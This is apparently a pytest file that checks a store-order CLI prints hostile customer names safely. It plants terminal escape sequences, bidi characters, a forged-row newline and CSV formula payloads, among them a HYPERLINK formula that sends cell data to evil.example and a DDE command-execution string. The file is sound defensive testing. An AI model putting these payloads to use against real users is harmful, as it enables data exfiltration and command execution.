"""Store text is data, never commands: printed by the real `backroom`
command, a customer name full of escape sequences neither clears the screen
nor retitles the terminal (the characters are shown as escapes), a formula
does not run in a spreadsheet, and JSON carries every value exactly."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sys

import pytest

from app.ecwid import OrderFilters
from tests.helpers.cli import backroom, connect_demo
from tests.helpers.sandbox import client_for

EVIL = "Eve \x1b[2J\x1b[31mEvil\x1b]0;pwned\x07"
C1_AND_BIDI = "Mallory \x9b2J\u202egnp.exe\u2028next"
NEWLINE = "Trudy\n1999    2030-01-01 00:00  Forged row"
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "formula",
    "+cmd|' /C calc'!A0": "dde",
    "-2+3": "minus",
    "@SUM(1+1)": "at",
}  # (a leading tab or carriage return: the cache trims names; see test_export_safety)
TERMINAL_CONTROLS = [chr(code) for code in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))]
TERMINAL_CONTROLS += [chr(code) for code in range(0x7F, 0xA0)] + ["\u202e", "\u2028"]


def _rename_customers(store, names: list[str]) -> dict[str, str]:
    """Give the first orders of the demo store these billing names (through
    the API, as anyone with a token could); their ids → the names."""

    async def rename() -> dict[str, str]:
        async with client_for(store) as client:
            paid = OrderFilters(payment_status=["PAID"])
            page = await client.search_orders_raw(paid, limit=100)
            orders = [o for o in page.items if o.get("id") and o.get("billingPerson")]
            renamed = {}
            for order, name in zip(orders, names, strict=False):
                person = {**order["billingPerson"], "name": name}
                await client.update_order(order["id"], {"billingPerson": person})
                renamed[order["id"]] = name
            return renamed

    return asyncio.run(rename())


def _raw_controls(text: str) -> list[str]:
    return sorted({repr(ch) for ch in text if ch in TERMINAL_CONTROLS})


@pytest.fixture
def hostile_store(sandbox, tmp_path):
    names = [EVIL, C1_AND_BIDI, NEWLINE, *FORMULAS]
    renamed = _rename_customers(sandbox, names)
    data = tmp_path / "data"
    assert connect_demo(data, sandbox).returncode == 0
    synced = backroom(data, "sync", token=sandbox.token)
    assert synced.returncode == 0, synced.stderr
    return data, renamed


def test_the_table_shows_escape_sequences_instead_of_obeying_them(hostile_store):
    data, renamed = hostile_store
    table = backroom(data, "orders", "--status", "PAID", "--limit", "500")
    assert table.returncode == 0, table.stderr
    assert _raw_controls(table.stdout + table.stderr) == []
    assert "Eve \\x1b[2J\\x1b[31mEvil\\x1b]0;pwn" in table.stdout  # cut at the column's 40
    assert "Mallory \\x9b2J\\u202egnp.exe\\u2028next" in table.stdout
    assert "Trudy\\x0a1999" in table.stdout
    lines = table.stdout.splitlines()
    assert not any(line.startswith("1999 ") for line in lines)  # no forged row
    shown = int(table.stderr.split()[0])
    assert len(lines) == 1 + shown  # one line per order: no name broke a row


def test_csv_cells_that_would_run_as_formulas_are_text(hostile_store):
    data, renamed = hostile_store
    result = backroom(data, "orders", "--status", "PAID", "--format", "csv", "--limit", "500")
    assert result.returncode == 0, result.stderr
    assert _raw_controls(result.stdout.replace("\t", "")) == []
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    customers = {row["customer"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in customers and formula not in customers
    assert all(not row["customer"].startswith(("=", "+", "-", "@", "\t")) for row in rows)
    totals = [row["total"] for row in rows]
    assert all(float(total) >= 0 and not total.startswith("'") for total in totals)


def test_json_stays_exact_and_carries_no_raw_control_character(hostile_store):
    data, renamed = hostile_store
    result = backroom(data, "orders", "--status", "PAID", "--format", "json", "--limit", "500")
    assert result.returncode == 0, result.stderr
    assert _raw_controls(result.stdout.replace("\n", "")) == []
    assert "\\u001b[2J" in result.stdout and "\\u009b2J" in result.stdout
    orders = json.loads(result.stdout)
    names = {order.get("id"): order.get("billingPerson", {}).get("name") for order in orders}
    for order_id, name in renamed.items():
        assert names[order_id] == name  # exactly as the store holds it


def test_ecdp_get_shows_store_text_safely_and_exactly(hostile_store, sandbox, monkeypatch):
    data, renamed = hostile_store
    evil_id = next(order_id for order_id, name in renamed.items() if name == EVIL)

    async def rename_item() -> None:
        async with client_for(sandbox) as client:
            order = await client.get_order_raw(evil_id)
            items = order["items"]
            items[0]["name"] = EVIL
            await client.update_order(evil_id, {"items": items})

    asyncio.run(rename_item())
    assert backroom(data, "sync", token=sandbox.token).returncode == 0
    monkeypatch.setenv("BACKROOM_ECDP_KEY", sandbox.ecdp_key)
    added = backroom(
        data, "account", "add", "Unit", "--kind", "ecdp", "--api-url", sandbox.ecdp_url
    )
    assert added.returncode == 0, added.stderr
    pushed = backroom(data, "ecdp", "push", "--search", evil_id, token=sandbox.token)
    assert pushed.returncode == 0, pushed.stderr
    shown = backroom(data, "ecdp", "get", evil_id)
    assert shown.returncode == 0, shown.stderr
    assert _raw_controls(shown.stdout.replace("\n", "")) == []
    products = json.loads(shown.stdout)["products"]
    assert EVIL in [product["name"] for product in products]


@pytest.mark.usefixtures("restore_root_logger")
def test_every_message_of_a_command_goes_through_the_safety_net(capsys, monkeypatch):
    """Whatever a command prints (an order update's message with the store's
    words, a sync's failures…), the terminal gets escapes, not controls."""
    import app.cli
    import app.commands.orders as orders_command

    def loud(args) -> int:
        print(f"Order 1001: the store said {EVIL}")
        print(f"\x9b31m{C1_AND_BIDI}\tand\r\n", file=sys.stderr)
        return 0

    monkeypatch.setattr(orders_command, "run", loud)
    monkeypatch.setattr(app.cli, "tune_garbage_collector", lambda: None)  # not the tests' gc
    assert app.cli.main(["orders"]) == 0
    out, err = capsys.readouterr()
    assert out == "Order 1001: the store said Eve \\x1b[2J\\x1b[31mEvil\\x1b]0;pwned\\x07\n"
    assert err == "\\x9b31mMallory \\x9b2J\\u202egnp.exe\\u2028next\tand\r\n\n"
    assert _raw_controls(out + err.replace("\t", "").replace("\r", "").replace("\n", "")) == []
